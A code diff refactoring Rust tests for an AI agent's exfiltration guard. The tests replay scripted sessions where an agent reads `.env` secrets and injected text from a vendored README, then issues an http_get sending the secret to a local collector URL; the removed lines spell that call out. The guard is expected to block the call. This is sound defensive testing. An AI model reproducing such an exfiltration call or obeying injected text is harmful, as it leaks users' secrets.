@@ -5,7 +5,7 @@
 
 use crate::support::cassette::{answer_turn, call_turn};
 use crate::support::events::{events, find, label, labels};
-use crate::support::guard::{cassette, project};
+use crate::support::guard::{assert_nothing_sent, cassette, project, send_turn};
 use crate::support::output::assert_exit;
 use crate::support::run::argv_with;
 use crate::support::text::has;
@@ -26,11 +26,7 @@ fn injected_run(port: u16, read_secret: bool) -> Vec<Value> {
     )];
     let secret_path = if read_secret { ".env" } else { "notes.txt" };
     turns.push(call_turn("c2", "read_file", json!({"path": secret_path})));
-    turns.push(call_turn(
-        "c3",
-        "http_get",
-        json!({"url": format!("http://127.0.0.1:{port}/collect?k={SECRET}")}),
-    ));
+    turns.push(send_turn("c3", port));
     turns.push(answer_turn("Summarised."));
     turns
 }
@@ -88,11 +84,7 @@ fn a_session_holding_secrets_and_injected_text_cannot_send_unasked() {
         "this session read sensitive data (`.env`) and untrusted content (`vendor/lib/README.md`)",
     );
     has(told, format!("could send data to `127.0.0.1:{port}`"));
-    assert_eq!(
-        server.requests().len(),
-        0,
-        "the collector received a request"
-    );
+    assert_nothing_sent(&server);
 
     // The log keeps the labels.
     let records = corral_core::session::read(&crate::support::log::session_log(&cli)).expect("log");
@@ -202,11 +194,7 @@ fn a_resumed_session_still_holds_what_it_read() {
         reason.contains("`.env`") && reason.contains("`vendor/lib/README.md`"),
         "{reason}"
     );
-    assert_eq!(
-        server.requests().len(),
-        0,
-        "the collector received a request"
-    );
+    assert_nothing_sent(&server);
 }
 
 #[test]
@@ -348,11 +336,7 @@ fn what_a_subagent_read_arms_its_parents_guard() {
     ];
     let parent = vec![
         call_turn("c1", "task", json!({"prompt": ASK, "tools": ["read_file"]})),
-        call_turn(
-            "c2",
-            "http_get",
-            json!({"url": format!("http://127.0.0.1:{port}/collect?k={SECRET}")}),
-        ),
+        send_turn("c2", port),
         answer_turn("Done."),
     ];
     crate::support::cassette::write_with_agents(
@@ -376,9 +360,5 @@ fn what_a_subagent_read_arms_its_parents_guard() {
     for part in ["exfiltration guard", "`.env`", "`vendor/lib/README.md`"] {
         assert!(reason.contains(part), "{part:?} not in {reason}");
     }
-    assert_eq!(
-        server.requests().len(),
-        0,
-        "the collector received a request"
-    );
+    assert_nothing_sent(&server);
 }
